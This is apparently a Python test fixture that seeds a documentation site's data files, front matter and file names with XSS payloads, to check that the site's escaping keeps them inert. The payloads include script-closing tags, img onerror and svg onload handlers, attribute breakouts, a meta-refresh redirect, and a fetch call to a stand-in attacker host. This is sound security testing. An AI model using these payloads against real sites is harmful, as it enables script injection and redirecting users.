"""A project full of payloads that every check accepts, for the no-CSP browser test.

Each payload is text a reader may legitimately see (in code, as escaped
characters, inside a title or a quotation), placed where a missed escaping
step would turn it into markup: <head>, the header, the navigation, headings,
table cells, the FAQ's JSON-LD, link titles, footnotes, the decision form's
data attributes, the search index, file names. If any of them became HTML,
the browser would show a dialog or make a request to another host. The hostile
corpus's round-two cases that build safely (tests/hostile/round_two.py: markup in
code, an SVG, a search title, a percent-encoded report address, byte order marks)
are applied on top.
"""

from __future__ import annotations

import re
import shutil
from pathlib import Path

from tests.harness.site import FIXTURES, ROOT
from tests.hostile.cases import Safe
from tests.hostile.round_two import CASES as ROUND_TWO

# The hostile corpus's round-two cases that build (issue 21): their payloads join these.
ROUND_TWO_SAFE = [case for case in ROUND_TWO if isinstance(case.expect, Safe)]

# Runs if it ever becomes code: a dialog, and a request that leaves 127.0.0.1.
JS = "alert(1);fetch('https://evil.example/x')"
IMG = f"<img src=https://evil.example/i.png onerror={JS}>"

EDITS: dict[str, list[tuple[str, str]]] = {
    "data/site.yml": [
        ("title: Alpha vs Beta", "title: 'Alpha \" autofocus onfocus=\"alert(1)'"),
        (
            "description: A small comparison used by the tests.",
            "description: '0;url=https://evil.example/\" http-equiv=\"refresh'",
        ),
        (
            "Pick **Alpha** for small services",
            "Pick **Alpha** (`</script><script>alert(1)</script>`) for small services",
        ),
        ("  text: See the table", "  text: 'See \"the\" table <3 &amp; more'"),
    ],
    "data/sources.yml": [
        (
            "title: Alpha changelog",
            "title: 'Alpha \"changelog\" <3 &lt;img src=x onerror=alert(1)&gt;'",
        ),
        ("publisher: Alpha project", "publisher: 'Alpha \" onmouseover=\"alert(1)'"),
    ],
    "data/frameworks/alpha.yml": [
        ("name: Alpha", "name: 'Al\"pha <3'"),
        ("tagline: The Alpha framework.", "tagline: '\" onmouseover=\"alert(1) &amp;lt;'"),
        (
            "  Alpha is a framework used by the tests.",
            "  Alpha is a framework. See [its notes](/comparison.md "
            '"a&quot; onmouseover=&quot;alert(1)") and `' + IMG + "`.",
        ),
    ],
    "data/dimensions/architecture.yml": [
        ("verdict: A micro-framework.", "verdict: '&lt;svg onload=alert(1)&gt; as text'"),
        ("alpha: Micro-framework", "alpha: '`<svg onload=alert(1)>` in a cell'"),
        (
            "      Alpha gives you a small core.",
            "      Alpha gives you a small core.\n\n      ```html\n      "
            + IMG
            + "\n      <script>alert(1)</script>\n      ```",
        ),
    ],
    "data/faq.yml": [
        ("q: Which should I learn first?", "q: 'Which \"first\"? `</script>` <3 &amp;'"),
        (
            "      Alpha: it has less to learn before the first page works.",
            "      Alpha: `</script><script>alert(1)</script>` and `" + IMG + "`.",
        ),
    ],
}

CONTENT = {
    # A hand-written page named with HTML, and one whose front matter breaks out of quotes
    # (markup there is refused: tests/hostile/cases_content.py).
    f"{IMG.replace('/', '_')}.md": "# A page with a strange name\n\nText.\n",
    "front.md": (
        "---\ntitle: '\"> <3 autofocus onfocus=\"alert(1)'\n"
        'description: \'" http-equiv="refresh" content="0;url=https://evil.example/\'\n'
        "---\n\n# Front matter\n\nText about onerror payloads.\n"
    ),
}


def make_xss_project(dest: Path) -> Path:
    shutil.copytree(FIXTURES / "minimal", dest)
    config = dest / "mkdocs.yml"
    text = config.read_text(encoding="utf-8")
    real = (ROOT / "mkdocs.yml").read_text(encoding="utf-8")
    extensions = re.search(r"^markdown_extensions:\n(?:[ -].*\n|\n)*", real, re.M)
    assert extensions
    text = re.sub(r"^markdown_extensions:\n(?:[ -].*\n)*", extensions.group(0), text, flags=re.M)
    text = text.replace("  font: false\n", f"  font: false\n  custom_dir: {ROOT / 'overrides'}\n")
    config.write_text(text, encoding="utf-8")
    for name, edits in EDITS.items():
        path = dest / name
        data = path.read_text(encoding="utf-8")
        for old, new in edits:
            assert old in data, (name, old)
            data = data.replace(old, new, 1)
        path.write_text(data, encoding="utf-8")
    for name, body in CONTENT.items():
        (dest / "content" / name).write_text(body, encoding="utf-8")
    for case in ROUND_TWO_SAFE:
        case.mutate(dest)
    # overrides/ points Material's search at the site's own worker in content/assets.
    shutil.copytree(ROOT / "content" / "assets", dest / "content" / "assets", dirs_exist_ok=True)
    return dest
